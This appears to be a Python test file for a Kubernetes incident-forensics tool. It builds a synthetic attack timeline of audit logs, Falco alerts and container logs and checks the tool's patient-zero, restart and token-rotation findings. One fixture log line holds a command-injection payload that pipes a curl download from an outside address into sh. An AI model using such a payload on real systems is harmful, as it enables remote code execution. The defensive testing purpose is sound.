"""The container that was attacked was started again since, its log is the previous one, and the next
pod of the same Deployment is attacked after it. The truth is made here."""
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from made_cases import Case, account, lines  # noqa: E402
from made_responses import INSIDE, pod  # noqa: E402
from test_kube_reach import Reach  # noqa: E402

WEB, ANA = account("shop", "web"), "ana@corp.example"
A, B = "web-6b9c7d5f8-aaaaa", "web-6b9c7d5f8-bbbbb"
FIRST, AGAIN, OTHER = "ab" * 32, "cd" * 32, "ef" * 32


def at(hour, minute, second=0):
    return (hour - 10) * 3600 + minute * 60 + second


class Restarted(Reach):
    """10:05:00 the injected request, 10:05:02 its shell, 10:06 a new program in the first container
    of A, which ends at 10:15 and is started again; both instances write the same lines, one each
    half minute. 10:30 the same in B, whose token lists secrets at 10:33. Ana puts a debugger into A
    at 10:38 and deletes it at 10:45; B's token reads on at 10:50, and B is deleted at 11:30."""

    def judge(self, *sentences, about=A):
        c = Case("restarts", "2026-07-14")
        token = {n: {"authentication.kubernetes.io/pod-name": [n]} for n in (A, B)}
        for i in range(0, 9000, 60):
            for n, ip, end in ((A, "10.244.1.5", at(10, 45)), (B, "10.244.2.6", at(11, 30))):
                if i < end:
                    c.request(i, WEB, "get", "configmaps shop/settings", agent="web/2", source=ip,
                              groups=INSIDE, extra=token[n])
        manifest = pod(c, f"shop/{about}", {
            "serviceAccountName": "web", "nodeName": "n1", "containers": [
                {"name": "web", "image": "shop/web:1"}]}, AGAIN if about == A else OTHER,
            {"app": "web"}, owner="ReplicaSet/web-6b9c7d5f8", created="2026-07-14T09:00:00Z")
        if about == A:
            manifest["status"]["containerStatuses"][0].update(
                state={"running": {"startedAt": "2026-07-14T10:15:02Z"}},
                lastState={"terminated": {"containerID": "containerd://" + FIRST, "exitCode": 137,
                                          "startedAt": "2026-07-14T09:00:05Z",
                                          "finishedAt": "2026-07-14T10:15:00Z"}})
        for name, container, when in ((A, FIRST, at(10, 5, 2)), (B, OTHER, at(10, 30))):
            here = {"container": container, "image": "shop/web"}
            c.alert(when, "Run shell untrusted", f"shop/{name}", "sh -c x", **here)
            c.alert(when + 58, "Drop and execute new binary in container", f"shop/{name}", "/tmp/m",
                    priority="Critical", **here)
        out = {"agent": "curl/8", "source": "10.244.2.6", "groups": INSIDE, "extra": token[B]}
        c.request(at(10, 33), WEB, "list", "secrets shop/", **out)
        c.request(at(10, 38), ANA, "patch", f"pods/ephemeralcontainers shop/{A}", body={
            "spec": {"ephemeralContainers": [{"name": "dbg", "image": "busybox"}]}})
        c.request(at(10, 45), ANA, "delete", f"pods shop/{A}")
        c.request(at(10, 50), WEB, "get", "secrets shop/db-admin", **out)
        c.request(at(11, 30), ANA, "delete", f"pods shop/{B}")

        def log(since):
            return [(since + 30 * i, f"10.0.0.1 GET /item?id={i} 200") for i in range(28)]
        logs = {f"shop_{A}_web_previous.log": log(0) + [
            (at(10, 5), "198.51.100.9 GET /report?name=x;curl+http://198.51.100.9/s|sh 200")],
            f"shop_{A}_web.log": log(at(10, 16))} if about == A else {}
        self.analyze({"pod.json": json.dumps(manifest), "audit.log": lines(c.records()),
                      "falco.json": lines(c.alerts()),
                      **{n: "".join(f"{c.time(when, 9)} {line}\n" for when, line in sorted(text))
                         for n, text in logs.items()},
                      "timeline.md": "# 2026-07-14, UTC\n\n" + "".join(
                          f"- {one}\n" for one in sentences)})
        return [claim["verdict"] for claim in self.documents["claims"]["claims"]]

    def first(self):
        return self.documents["patient_zero"]["time"][11:19]

    def test_the_previous_instance_tells_how_it_began(self):
        """The same attack on the next pod is not the image's ordinary work."""
        self.judge()
        self.assertEqual(self.first(), "10:05:00")
        self.assertIn("log_line", self.documents["patient_zero"])
        self.assertEqual(self.documents["patient_zero"]["alert"]["time"][11:19], "10:05:02")

    def test_nor_is_that_on_the_pod_before(self):
        self.judge(about=B)
        self.assertEqual(self.first(), "10:30:00")

    def test_two_instances_are_no_copies_with_another_clock(self):
        self.judge()
        self.assertEqual([s["source"] for s in self.documents["clocks"]["sources"]
                          if s["applied_to_order"]], [])

    def test_what_was_restarted(self):
        """Ana's debugger restarted nothing."""
        self.assertEqual(self.judge(f"10:15 container of {A} was restarted",
                                    f"10:45 pod {A} was restarted"), ["supported"] * 2)
        self.judge("10:38 the pod was restarted")
        self.assertNotEqual(self.documents["claims"]["claims"][0]["verdict"], "supported")

    def test_the_token_of_the_second_pod_ends_with_that(self):
        self.judge()
        rotation = self.secrets()["service-account-token", "web"]["rotation"]
        self.assertEqual((rotation["seen"], rotation["by"]["object"]), (True, f"shop/{B}"))


if __name__ == "__main__":
    unittest.main()
